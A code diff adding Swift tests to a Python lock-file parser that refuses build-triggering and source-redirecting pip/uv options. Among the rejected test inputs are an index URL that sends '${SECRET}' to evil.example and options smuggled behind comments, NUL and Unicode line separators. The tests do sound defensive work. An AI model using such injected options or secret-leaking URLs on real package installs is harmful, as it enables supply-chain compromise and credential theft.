@@ -36,6 +36,56 @@ import Testing
         #expect(throws: BerthError.self) { try Lock(parsing: line + "\n") }
     }
 
+    @Test(arguments: ["\r", "\n", "\r\n"], ["--no-binary evil", "-e .", "--find-links /tmp", "--no-binary=:all:"])
+    func anOptionBehindACommentIsSeenAndRefused(newline: String, option: String) async throws {
+        let text = "# harmless\(newline)\(option)\nevil==1.0 --hash=\(hash)\n"
+        let failure = try await error { try Lock(parsing: text) }
+        #expect(failure.message.contains("the option `\(option)` is not allowed"))
+    }
+
+    @Test func aLockWithWindowsLineEndsIsTheSameLock() throws {
+        let unix = "# python: 3.11.7\na==1 \\\n    --hash=\(hash) \\\n    --hash=\(hash)\nb==2 --hash=\(hash)\n"
+        let windows = try Lock(parsing: "\u{FEFF}" + unix.replacing("\n", with: "\r\n"))
+        #expect(try windows.content == Lock(parsing: unix).content)
+        #expect(try windows.canonical == Lock(parsing: unix).canonical)
+        #expect(windows.pins.count == 2 && windows.python == "3.11.7")
+        #expect(windows.canonical == "a==1 --hash=\(hash) --hash=\(hash)\nb==2 --hash=\(hash)\n")
+    }
+
+    @Test(arguments: [
+        "--index-url https://evil.example/${SECRET}", "a==${V} --hash=sha256:H",
+        "a @ https://x/${V}.whl --hash=sha256:H",
+        "a==1 ; python_version > '${V}' --hash=sha256:H", "a==1\u{0B}--no-binary a --hash=sha256:H",
+        "a==1\u{0} --hash=sha256:H", "a==1\u{85}--no-binary x --hash=sha256:H",
+        "a==1\u{2028}--no-binary x --hash=sha256:H", "a==1 ; python_version > '3' --no-binary a --hash=sha256:H",
+        "a @ https://x.example/a-1.tar.gz --hash=sha256:H", "a @ https://x.example/a-1.tar.gz?a.whl --hash=sha256:H",
+        "a @ file:///repository/a --hash=sha256:H", "a @ git+https://x.example/a.whl --hash=sha256:H",
+        "./a-1-py3-none-any.whl --hash=sha256:H", "a==1 --hash=sha256:H --config-settings=x",
+        "--index-url https://a.example --no-binary a", "a== --hash=sha256:H", "a==1.* --hash=sha256:H",
+    ])
+    func refusesWhatUvWouldExpandOrBuild(line: String) {
+        let digits = String(repeating: "ab", count: 32)
+        #expect(throws: BerthError.self) { try Lock(parsing: line.replacing("sha256:H", with: "sha256:\(digits)")) }
+    }
+
+    @Test(arguments: [
+        "six\n--no-binary evil", "six\r--no-binary evil", "-e .", "six --no-binary=evil", "./evil", "six x>1",
+        "six[a] 1", "six \\",
+    ])
+    func aRequirementOfAManifestIsOneRequirement(line: String) {
+        #expect(throws: BerthError.self) { try RequirementsText.requirement(line) }
+    }
+
+    @Test(arguments: [
+        ("Scikit_Learn [a, b]>=1.2,<2 # why", "Scikit_Learn[a,b]>=1.2,<2"), ("six", "six"), ("six ~= 1.0", "six~= 1.0"),
+        ("a==1.0;python_version<'4'", "a==1.0 ; python_version<'4'"), ("a == 1.0", "a==1.0"),
+        ("a@https://x.example/a-1-py3-none-any.whl#sha", "a @ https://x.example/a-1-py3-none-any.whl#sha"),
+        ("a (>=1.0)", "a(>=1.0)"),
+    ])
+    func requirementsAreWrittenInOneWay(line: String, written: String) throws {
+        #expect(try RequirementsText.requirement(line).line == written)
+    }
+
     @Test func commentsAndOrderDoNotChangeTheContent() throws {
         let one = try Lock(parsing: "# x\na==1 --hash=\(hash)\nb==2 --hash=\(hash)\n")
         let two = try Lock(parsing: "b==2 --hash=\(hash)\n# y\na==1 \\\n  --hash=\(hash)  # z\n")
